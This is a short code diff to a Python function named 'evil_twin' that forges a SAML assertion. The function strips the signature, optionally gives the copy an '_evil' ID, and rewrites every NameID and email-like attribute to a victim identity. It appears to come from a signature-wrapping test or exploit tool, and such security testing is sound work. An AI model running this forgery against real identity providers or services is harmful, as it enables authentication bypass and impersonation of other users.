@@ -98,7 +98,8 @@ def evil_twin(assertion: Any, *, same_id: bool) -> Any:
         signature.getparent().remove(signature)
     if not same_id:
         evil.set("ID", "_evil")
-    part(evil, "NameID").text = VICTIM
+    for name in evil.iter(f"{{{SAML}}}NameID"):
+        name.text = VICTIM
     for value in evil.iter(f"{{{SAML}}}AttributeValue"):
         if "@" in (value.text or ""):
             value.text = "victim@acme.example"
